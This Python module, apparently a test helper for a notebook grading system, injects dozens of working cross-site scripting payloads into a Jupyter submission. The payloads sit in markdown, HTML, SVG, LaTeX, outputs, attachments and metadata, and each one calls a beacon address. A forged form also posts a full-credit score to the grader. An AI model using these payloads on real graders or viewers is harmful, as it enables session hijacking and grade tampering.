"""A notebook that holds everything that could act in the page of whoever opens it."""

import base64
import json
from collections.abc import Iterator

import nbformat
from nbformat import NotebookNode

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
PIXEL += "rkJggg=="


def act(beacon: str, name: str) -> str:
    """A script that leaves a mark in the page and calls home; it holds no double quote."""
    return f"window.pwned=(window.pwned||'')+'{name} ';fetch('{beacon}/{name}')"


def html(beacon: str) -> dict[str, str]:
    """Pieces of HTML that act when they are shown, hovered over or clicked, by name."""
    page = f"<script>parent.{act(beacon, 'framed')}</script>"
    packed = base64.b64encode(page.encode()).decode()
    return {
        "script": f"<script>{act(beacon, 'script')}</script>",
        "script-case": f"<ScRiPt\t>{act(beacon, 'script-case')}</sCrIpT >",
        "script-src": f'<script src="{beacon}/script-src.js"></script>',
        "onerror": f'<img src=x onerror="{act(beacon, "onerror")}">',
        "onerror-slash": f'<img/src="x"/onerror="{act(beacon, "onerror-slash")}">',
        "open-tag": f'<img src=x onerror="{act(beacon, "open-tag")}" ',
        "onload": f'<body onload="{act(beacon, "onload")}">',
        "hover": f'<b onmouseover="{act(beacon, "hover")}">hover</b>',
        "focus": f'<input autofocus onfocus="{act(beacon, "focus")}">',
        "toggle": f'<details open ontoggle="{act(beacon, "toggle")}">x</details>',
        "animation": f'<svg><animate onbegin="{act(beacon, "animation")}" attributeName=x dur=1s>',
        "javascript": f'<a href="javascript:{act(beacon, "javascript")}">click</a>',
        "javascript-tab": f'<a href="java&#9;script:{act(beacon, "javascript-tab")}">click</a>',
        "data-link": f'<a href="data:text/html;base64,{packed}">click</a>',
        "svg": f"<svg><script>{act(beacon, 'svg')}</script></svg>",
        "svg-link": f'<svg><a xlink:href="javascript:{act(beacon, "svg-link")}"><text>x</text></a>',
        "math": f'<math><maction xlink:href="javascript:{act(beacon, "math")}">x</maction></math>',
        "mutation": "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=x onerror={act(beacon, "mutation")}&gt;">',
        "iframe": f'<iframe src="{beacon}/iframe"></iframe>',
        "srcdoc": f'<iframe srcdoc="{page}"></iframe>',
        "frame-data": f'<iframe src="data:text/html;base64,{packed}"></iframe>',
        "object": f'<object data="{beacon}/object"></object>',
        "embed": f'<embed src="{beacon}/embed">',
        "refresh": f'<meta http-equiv="refresh" content="0;url={beacon}/refresh">',
        "base": f'<base href="{beacon}/base/">',
        "link": f'<link rel="stylesheet" href="{beacon}/link.css">',
        "prefetch": f'<link rel="prefetch" href="{beacon}/prefetch">',
        "style": f"<style>body{{display:none}}*{{background:url({beacon}/style)}}</style>",
        "cover": '<div style="position:fixed;inset:0;z-index:99999;background:white">cover</div>',
        "remote": f'<img src="{beacon}/remote.png"><video src="{beacon}/video"></video>',
        "srcset": f'<img srcset="{beacon}/srcset 1x"><picture><source srcset="{beacon}/source">',
        "background": f'<table background="{beacon}/background"><tr><td>x</td></tr></table>',
        "form": '<form action="/formgrader/api/grade/1" method="post"><input name="manual_score" '
        'value="100"><button>Next</button></form>',
        "button": '<button class="full-credit btn">Full credit</button>',
        "comment": f"<!--><script>{act(beacon, 'comment')}</script>-->",
        "template": f"<noscript><p title='</noscript><script>{act(beacon, 'template')}</script>'>",
        "textarea": f"<textarea></textarea><script>{act(beacon, 'textarea')}</script></textarea>",
        "close": f"</div></div></pre></body><script>{act(beacon, 'close')}</script>",
    }


ATTACHED = f"![x](attachment:evil.html) ![x](attachment:evil.svg) ![x](attachment:{PIXEL[:9]}.png)"


def markdown(beacon: str) -> str:
    """The same in markdown, and what only markdown can do."""
    tricks = [
        f"[click](javascript:{act(beacon, 'link')})",
        f"[click](  JaVaScRiPt:{act(beacon, 'link-case')} 'title')",
        f"[click](&#106;avascript:{act(beacon, 'entity')})",
        f"[click](vbscript:x) [click](data:text/html,<script>{act(beacon, 'link-data')}</script>)",
        f"[click][r]\n\n[r]: javascript:{act(beacon, 'reference')}",
        f"<javascript:{act(beacon, 'auto')}>",
        f"![x]({beacon}/image.png) ![x][i]\n\n[i]: {beacon}/image-reference.png",
        f'![x"onerror="{act(beacon, "alt")}](x) ![x](x"onerror="{act(beacon, "source")})',
        f'[x](# "t\\" onmouseover=\\"{act(beacon, "title")}")',
        "![x](data:image/svg+xml;base64,"
        + base64.b64encode(html(beacon)["svg"].encode()).decode()
        + ")",
        f"$\\href{{javascript:{act(beacon, 'math-link')}}}{{x}}$ $\\require{{html}}$",
        f"$$\\style{{position:fixed;background:url({beacon}/math-style)}}{{x}}$$",
        "$\\unicode[serif;}</style>]{x41} \\bbox[position:fixed]{x} \\class{full-credit}{x}$",
        f"```<script>{act(beacon, 'fence')}</script>\nx\n```",
        f'```x" onmouseover="{act(beacon, "fence-attribute")}\nx\n```',
        f"```mermaid\nclick A call {act(beacon, 'mermaid')}\n```",
        f"$x</script><script>{act(beacon, 'in-math')}</script>$",
        "\u202egnikcart \u2066\u2067\u200b \x00 \x1b]0;title\x07 \x1b[2J",
    ]
    return "\n\n".join([*tricks, *html(beacon).values()])


def outputs(beacon: str) -> Iterator[dict[str, object]]:
    """What `display(..., raw=True)` may be given, by type and metadata."""
    every = "\n".join(html(beacon).values())
    script = act(beacon, "output-script")
    yield from ({"text/html": piece} for piece in html(beacon).values())
    yield {"text/html": every, "text/plain": every}
    yield {
        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{script}</script></svg>"
    }
    yield {"image/png": f'x" onerror="{act(beacon, "png")}'}
    yield {"image/gif": PIXEL, "image/webp": f"<script>{script}</script>"}
    yield {"text/markdown": markdown(beacon)}
    yield {
        "text/latex": f"$\\href{{javascript:{act(beacon, 'latex')}}}{{x}}$<script>{script}</script>"
    }
    yield {"application/javascript": script, "text/javascript": script}
    yield {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{script}"}}
    yield {"application/vnd.vega.v5+json": {"signals": [{"update": script}]}}
    yield {"application/json": {"x": f"</script><script>{script}</script>"}}
    yield {"application/pdf": f"{beacon}/pdf", "application/x-evil<script>": f"<script>{script}"}


def poisoned(notebook: NotebookNode, beacon: str, answer: str, experiment: str) -> NotebookNode:
    """The notebook with all of it wherever a submission can put something.

    Args:
        notebook: An honest submission; it is changed.
        beacon: The address that is called by what acts.
        answer: The id of a written answer, or `""`.
        experiment: The id of an experiment, whose outputs are kept.
    """
    everything, new = f"{markdown(beacon)}\n\n{ATTACHED}", nbformat.v4
    pictures = {
        "evil.html": {"text/html": html(beacon)["script"]},
        "evil.svg": {"image/svg+xml": html(beacon)["svg"]},
        f'x" onerror="{act(beacon, "attachment")}.png': {"image/png": PIXEL},
        f"{PIXEL[:9]}.png": {"image/png": f'x" onerror="{act(beacon, "attachment-data")}'},
    }
    cells = {cell.id: cell for cell in notebook.cells}
    if answer:
        cells[answer].source = everything
        cells[answer].attachments = pictures
    kept = [
        new.new_output(
            "display_data",
            data,
            metadata={
                "text/html": {"isolated": True},
                "filenames": {"image/png": f'"><script src={beacon}/name>'},
            },
        )
        for data in outputs(beacon)
    ]
    text = f"{html(beacon)['script']}\x1b[31;1m{html(beacon)['onerror']}\x1b]8;;javascript:x\x07y"
    kept.append(new.new_output("stream", text=text))
    kept.append(new.new_output("error", ename=text, evalue=text, traceback=[text]))
    cells[experiment].outputs = kept
    show = "import json\nfrom IPython.display import display\n"
    show += f"for data in json.loads({json.dumps(list(outputs(beacon)))!r}):\n"
    show += "    display(data, raw=True, metadata={'text/html': {'isolated': True}})\n"
    show += f"print({text!r})\nraise type({text!r}, (Exception,), {{}})({text!r})"
    made = [
        new.new_code_cell(show),
        new.new_markdown_cell(everything, attachments=pictures),
        new.new_raw_cell("\n".join(html(beacon).values()), metadata={"raw_mimetype": "text/html"}),
        new.new_code_cell(f"# {everything}".replace("\n", "\n# ")),
    ]
    for piece in html(beacon).values():
        made.append(new.new_markdown_cell(piece))
    notebook.cells[2:2] = made
    for cell in notebook.cells:
        cell.metadata["tags"] = [f'x" onmouseover="{act(beacon, "tag")}', "hide-input"]
        cell.metadata["alt"] = f'x" onerror="{act(beacon, "cell-alt")}'
    notebook.metadata["title"] = html(beacon)["script"]
    notebook.metadata["kernelspec"] = {
        "name": html(beacon)["script"],
        "display_name": html(beacon)["close"],
        "language": html(beacon)["onerror"],
    }
    notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {},
            "x": f"</script><script>{act(beacon, 'widgets')}</script>",
        }
    }
    return notebook
